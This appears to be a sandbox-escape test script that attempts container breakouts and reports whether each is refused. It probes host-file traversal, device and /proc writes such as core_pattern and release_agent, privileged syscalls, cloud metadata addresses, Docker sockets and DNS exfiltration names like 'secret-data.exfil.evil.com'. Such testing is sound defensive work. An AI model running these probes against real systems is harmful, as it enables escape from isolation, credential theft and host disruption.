"""Attacks from inside. Each function tries one thing and returns something true if it got what it must not get; an
exception or something false is a refusal. Controls are things that have to work: without them, a sandbox in which
nothing works at all would look safe. `T` holds what the test prepared on the host."""
import ctypes, errno, glob, json, os, resource, socket, struct, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)
probes, controls = {}, {}


def probe(name):
    return lambda f: probes.setdefault(name, f)


def control(name):
    return lambda f: controls.setdefault(name, f)


def sys_ok(number, *args):
    """True if the system call works."""
    if libc.syscall(number, *args) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True


def reads(path):
    with open(path, "rb") as f:
        return f.read(64)


def writes(path, data=b"x"):
    fd = os.open(path, os.O_WRONLY)
    os.write(fd, data)
    return True


def creates(path):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o777)
    os.close(fd)
    return True


# --- the host's files, by every way that leads out of a bad container
canary = T["canary"]
for i, path in enumerate([
    canary, "/.." * 12 + canary, "/proc/1/root" + canary, "/proc/self/root" + canary, "/proc/self/cwd/../../../.." + canary,
    "/proc/1/cwd/../../.." + canary, "/proc/self/fd/0/.." + canary, "/proc/self/task/1/root" + canary, "/host" + canary,
    "/rootfs" + canary, "/mnt" + canary, "/proc/1/root" + "/proc/1/root" + canary, "/app/../.." + canary, "/deps/../../.." + canary,
    "/run/secrets/../../.." + canary, "/weir/../../.." + canary,
]):
    probes[f"host file {i}"] = lambda p=path: b"HOST-CANARY" in reads(p)
for fd in range(3, 24):
    if fd % 4 == 3:
        probes[f"inherited descriptor {fd}"] = lambda n=fd: b"HOST-CANARY" in os.pread(n, 64, 0)
for name in ["kmsg", "mem", "kmem", "port", "kvm", "fuse", "net/tun", "loop0", "loop-control", "vda", "sda", "nvme0n1", "mapper/control", "vsock", "vhost-net", "uinput", "dri/card0"]:
    probes["device " + name] = lambda n=name: reads("/dev/" + n) or True
for path in [
    "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory",
    "/proc/sys/kernel/hostname", "/proc/sys/net/ipv4/ip_forward", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent",
    "/sys/fs/cgroup/memory/release_agent", "/sys/power/state", "/proc/1/oom_score_adj", "/proc/1/mem", "/proc/1/attr/current",
    "/etc/passwd", "/etc/shadow", "/etc/resolv.conf", "/etc/hosts", "/usr/bin/python3.11", "/usr/lib/python3.11/os.py",
    "/app/server.py", "/run/secrets/CANARY", "/weir/stdio.py",
]:
    probes["write " + path] = lambda p=path: writes(p)
for folder in ["/", "/app", "/deps", "/usr/bin", "/usr/lib/python3.11", "/etc", "/run/secrets", "/weir", "/root", "/proc", "/sys", "/var/lib"]:
    probes["create in " + folder] = lambda d=folder: creates(d + "/weir-probe")
for path in ["/proc/kcore", "/proc/kmsg", "/proc/kallsyms", "/proc/timer_list", "/proc/sched_debug", "/proc/1/root" + "/etc/shadow", "/sys/firmware/acpi/tables", "/sys/kernel/debug/x", "/sys/kernel/security/lsm"]:
    probes["read " + path] = lambda p=path: reads(p)


@probe("paths of the host in mounts, maps and mountinfo")
def _():
    text = "".join(open(f"/proc/self/{n}").read() for n in ["mounts", "mountinfo", "maps", "cgroup"])
    return T["state"] in text or "weir-runner-test" in text


@probe("name of the host")
def _():
    return T["hostname"] and T["hostname"] == socket.gethostname()


@probe("processes of others")
def _():
    own = [p for p in os.listdir("/proc") if p.isdigit()]
    return len(own) > 20 or any("runsc" in open(f"/proc/{p}/cmdline").read() for p in own)


@probe("the host's environment")
def _():
    return "CARGO" in open("/proc/1/environ").read() or "WEIR" in open("/proc/1/environ").read()


@probe("rights")
def _():
    status = dict(l.split(":\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\t" in l)
    return os.getuid() == 0 or os.getgid() == 0 or any(int(status[k], 16) for k in status if k.startswith("Cap"))


@probe("set-uid programs")
def _():
    return [p for d in ["/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/lib"] for p in glob.glob(d + "/*") if os.path.isfile(p) and os.stat(p).st_mode & 0o6000]


# --- system calls (x86-64 numbers)
P = ctypes.c_void_p()
B = ctypes.create_string_buffer(4096)
for name, call in {
    "mount": lambda: sys_ok(165, b"none", b"/tmp", b"tmpfs", 0, 0), "mount proc": lambda: sys_ok(165, b"proc", b"/tmp", b"proc", 0, 0),
    "mount bind": lambda: sys_ok(165, b"/", b"/tmp", 0, 4096, 0), "remount rw": lambda: sys_ok(165, b"/app", b"/app", 0, 32, 0),
    "umount": lambda: sys_ok(166, b"/app", 2), "umount secrets": lambda: sys_ok(166, b"/run/secrets", 2),
    "pivot_root": lambda: sys_ok(155, b"/", b"/tmp"), "chroot": lambda: sys_ok(161, b"/tmp"),
    "setns": lambda: sys_ok(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0), "unshare mounts": lambda: sys_ok(272, 0x20000),
    "unshare network": lambda: sys_ok(272, 0x40000000), "unshare pids": lambda: sys_ok(272, 0x20000000),
    "ptrace init": lambda: os.getpid() != 1 and sys_ok(101, 16, 1, 0, 0), "process_vm_readv of the parent": lambda: sys_ok(310, os.getppid() or 99999, B, 1, B, 1, 0),
    "kexec_load": lambda: sys_ok(246, 0, 0, 0, 0), "init_module": lambda: sys_ok(175, B, 64, b""), "finit_module": lambda: sys_ok(313, 0, b"", 0),
    "delete_module": lambda: sys_ok(176, b"x", 0), "bpf": lambda: sys_ok(321, 0, B, 72), "perf_event_open": lambda: sys_ok(298, B, 0, -1, -1, 0),
    "userfaultfd": lambda: sys_ok(323, 0), "io_uring_setup": lambda: sys_ok(425, 8, B), "keyctl": lambda: sys_ok(250, 11, -3, B, 16),
    "add_key": lambda: sys_ok(248, b"user", b"x", b"y", 1, -3), "open_by_handle_at": lambda: sys_ok(304, -100, B, 0),
    "reboot": lambda: sys_ok(169, 0xFEE1DEAD, 672274793, 0), "swapon": lambda: sys_ok(167, b"/tmp/x", 0), "sethostname": lambda: sys_ok(170, b"evil", 4),
    "settimeofday": lambda: sys_ok(164, B, 0), "clock_settime": lambda: sys_ok(227, 0, B), "acct": lambda: sys_ok(163, b"/tmp/x"),
    "quotactl": lambda: sys_ok(179, 0x800002, 0, 0, B), "iopl": lambda: sys_ok(172, 3), "ioperm": lambda: sys_ok(173, 0x70, 2, 1),
    "fanotify_init": lambda: sys_ok(300, 0, 0), "syslog": lambda: sys_ok(103, 3, B, 4096) and b"Linux version 6" in B.raw, "setuid": lambda: sys_ok(105, 0), "setgid": lambda: sys_ok(106, 0),
    "setgroups": lambda: sys_ok(116, 1, ctypes.byref(ctypes.c_uint(0))), "setresuid": lambda: sys_ok(117, 0, 0, 0),
    "mknod of a disk": lambda: sys_ok(133, b"/tmp/disk", 0o60666, 0x800) and reads("/tmp/disk"), "mknod of memory": lambda: sys_ok(133, b"/home/app/mem", 0o20666, 0x101) and reads("/home/app/mem"), "vhangup": lambda: sys_ok(153), "modify_ldt": lambda: sys_ok(154, 1, B, 16),
    "pidfd of init": lambda: os.getpid() != 1 and sys_ok(438, sys_ok(434, 1, 0), 0, 0), "open_tree": lambda: sys_ok(428, -100, b"/", 1), "fsopen": lambda: sys_ok(430, b"ext4", 0),
    "memfd_secret": lambda: sys_ok(447, 0), "kill everybody": lambda: os.getpid() != 1 and os.kill(1, 9),
    "raise the process limit": lambda: resource.setrlimit(resource.RLIMIT_NPROC, (100000, 100000)) is None,
    "raise the file limit": lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)) is None, "core dumps": lambda: resource.setrlimit(resource.RLIMIT_CORE, (1, 1)) is None,
    "ambient capability": lambda: sys_ok(157, 47, 2, 21, 0, 0), "drop no-new-privileges": lambda: sys_ok(157, 38, 0, 0, 0, 0),
}.items():
    probes["syscall " + name] = call


# --- the network
def says(address, family=socket.AF_INET, kind=socket.SOCK_STREAM, send=b"GET / HTTP/1.0\r\n\r\n"):
    """What comes back. A connection that is accepted and cut has reached nobody."""
    with socket.socket(family, kind) as s:
        s.settimeout(1.5)
        s.connect(address)
        s.send(send)
        return s.recv(256)


gateway, host, neighbour, port = T["gateway"], T["host"], T["neighbour"], T["port"]
for name, ip, number in [
    ("gateway, a host's service", gateway, port), ("host, its service", host, port), ("gateway ssh", gateway, 22), ("gateway http", gateway, 80),
    ("gateway https", gateway, 443), ("neighbour", neighbour, 8000), ("neighbour ssh", neighbour, 22), ("metadata", "169.254.169.254", 80),
    ("metadata of containers", "169.254.170.2", 80), ("metadata of Alibaba", "100.100.100.200", 80), ("metadata https", "169.254.169.254", 443), ("private 10", "10.0.0.1", 80),
    ("private 172", "172.17.0.1", 2375), ("private 192", "192.168.0.1", 80), ("carrier", "100.64.0.1", 80), ("public http", "1.1.1.1", 80), ("public https", "1.1.1.1", 443),
    ("public DNS over TLS", "8.8.8.8", 853), ("public other port", "8.8.4.4", 8080), ("broadcast", "255.255.255.255", 80), ("zero", "0.0.0.0", port), ("multicast", "224.0.0.1", 80),
    ("the host's loopback", "127.0.0.1", port), ("the host's loopback, other spelling", "127.1.2.3", port), ("synthetic, not asked for", "198.18.77.77", 443), ("test net", "203.0.113.80", 443),
]:
    probes["tcp " + name] = lambda a=(ip, number): says(a)
for name, ip in [("loopback", "::1"), ("mapped", "::ffff:" + host), ("metadata", "fd00:ec2::254"), ("link local", "fe80::1"), ("public", "2606:4700:4700::1111"), ("6to4", "2002:7f00:1::"), ("NAT64", "64:ff9b::7f00:1")]:
    probes["tcp6 " + name] = lambda a=(ip, port): says(a, socket.AF_INET6)
for name, ip, number in [("gateway", gateway, port), ("host", host, port), ("neighbour", neighbour, 8000), ("QUIC", "1.1.1.1", 443), ("NTP", "162.159.200.1", 123), ("metadata", "169.254.169.254", 80), ("mDNS", "224.0.0.251", 5353), ("broadcast", "255.255.255.255", 67)]:
    probes["udp " + name] = lambda a=(ip, number): says(a, kind=socket.SOCK_DGRAM)


def asks(name, kind=1, server=None, tcp=False):
    """True if a question gets an answer with records in it."""
    labels = b"".join(bytes([len(l)]) + l for l in name.encode("latin1").rstrip(b".").split(b"."))
    question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
    server = server or gateway
    if tcp:
        answer = says((server, 53), send=struct.pack(">H", len(question)) + question)[2:]
    else:
        answer = says((server, 53), kind=socket.SOCK_DGRAM, send=question)
    return struct.unpack(">H", answer[6:8])[0] > 0


for name in ["example.com", "metadata.google.internal", "localhost", "pypi.org", "xallowed.example", "allowed.example.evil.com", "deep.under.allowed.example",
             "under.allowed.example", "wild.example", "a.b.wild.example", "x" * 63 + ".evil.com", ".".join(["a" * 60] * 4), "secret-data.exfil.evil.com"]:
    probes["ask " + name[:40]] = lambda n=name: asks(n)
for name, kind in [("TXT", 16), ("AAAA", 28), ("MX", 15), ("ANY", 255), ("NULL", 10), ("SRV", 33), ("HTTPS", 65), ("CNAME", 5), ("AXFR", 252), ("PTR", 12)]:
    probes["ask allowed for " + name] = lambda k=kind: asks("allowed.example", k)
for server in ["8.8.8.8", "1.1.1.1", "192.168.0.1", host]:
    probes["ask another resolver " + server] = lambda s=server: asks("example.com", server=s)
probes["ask over tcp"] = lambda: asks("example.com", tcp=True)
probes["ask another over tcp"] = lambda: asks("example.com", server="9.9.9.9", tcp=True)
for name, args in {
    "raw icmp": (socket.AF_INET, socket.SOCK_RAW, 1), "raw tcp": (socket.AF_INET, socket.SOCK_RAW, 6), "raw ip": (socket.AF_INET, socket.SOCK_RAW, 255), "packet": (17, socket.SOCK_RAW, 3 << 8),
    "raw icmp6": (socket.AF_INET6, socket.SOCK_RAW, 58), "vsock": (40, socket.SOCK_STREAM, 0), "alg": (38, 5, 0), "bluetooth": (31, 3, 1), "sctp": (socket.AF_INET, socket.SOCK_STREAM, 132), "xdp": (44, 3, 0), "nfnetlink": (16, 3, 12), "audit": (16, 3, 9),
}.items():
    probes["socket " + name] = lambda a=args: socket.socket(*a) is not None
for path in ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/weir-runner/runner.sock", T["socket"], "\0weir-test-" + str(port), "/run/dbus/system_bus_socket", "/run/systemd/private"]:
    probes["unix " + repr(path)[:40]] = lambda p=path: says(p, socket.AF_UNIX)


# --- what has to work
@control("own loopback")
def _():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        with socket.create_connection(s.getsockname(), 1):
            return True


@control("temporary files")
def _():
    path = f"/tmp/{threading.get_ident()}"
    return creates(path) and writes(path)


control("home")(lambda: creates("/home/app/file"))
control("allowed name has an address")(lambda: asks("allowed.example"))
control("allowed name under a wildcard")(lambda: asks("one.wild.example"))
control("allowed name over tcp")(lambda: asks("allowed.example", tcp=True))
control("own secret")(lambda: open("/run/secrets/CANARY").read() == T["secret"])
control("threads")(lambda: [t.start() or t.join() for t in [threading.Thread(target=int)]] == [None])
control("a child process")(lambda: os.system("true") == 0)


def outcome(f):
    try:
        got = f()
        return ["reached", repr(got)[:100]] if got else ["refused", "nothing"]
    except BaseException as error:
        return ["refused", f"{type(error).__name__}: {error}"[:100]]


def run(table):
    out = {}
    lock = threading.Semaphore(24)

    def one(name, f):
        with lock:
            out[name] = outcome(f)
    # What may change the process itself runs alone, the rest side by side: most of it waits.
    alone = [n for n in table if not n.startswith(("tcp", "udp", "ask"))]
    for name in alone:
        one(name, table[name])
    threads = [threading.Thread(target=one, args=(n, table[n])) for n in table if n not in alone]
    [t.start() for t in threads]
    [t.join() for t in threads]
    return out


result = json.dumps({"probes": run(probes), "controls": run(controls)})
